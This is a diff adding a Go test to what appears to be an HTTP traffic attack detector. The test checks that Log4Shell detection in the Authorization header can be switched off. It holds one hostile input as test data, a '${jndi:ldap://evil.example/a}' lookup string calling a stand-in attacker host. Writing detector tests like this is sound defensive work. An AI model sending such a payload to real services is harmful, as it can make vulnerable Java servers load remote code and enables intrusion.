@@ -331,3 +331,30 @@ func TestHostNotRememberedClean(t *testing.T) {
 		}
 	}
 }
+
+// TestDisabledLog4ShellInAuthorization: a disabled class is not reported
+// from the Authorization header either.
+func TestDisabledLog4ShellInAuthorization(t *testing.T) {
+	tx := func() *reassembly.Transaction {
+		return mk("GET", "/v1/items", "", []http1.Header{{Name: "Authorization", Value: "Bearer ${jndi:ldap://evil.example/a}"}}, "", "")
+	}
+	for _, disabled := range []bool{false, true} {
+		cfg := NewConfig()
+		if disabled {
+			cfg.Disabled = []string{"log4shell"}
+		}
+		st, err := NewState(cfg, zerolog.Nop())
+		if err != nil {
+			t.Fatal(err)
+		}
+		var col collector
+		newWorker(st).Analyze(tx(), &col)
+		got := false
+		for _, d := range col.dets {
+			got = got || d.Class == "log4shell"
+		}
+		if got == disabled {
+			t.Errorf("disabled %v: log4shell reported %v", disabled, got)
+		}
+	}
+}
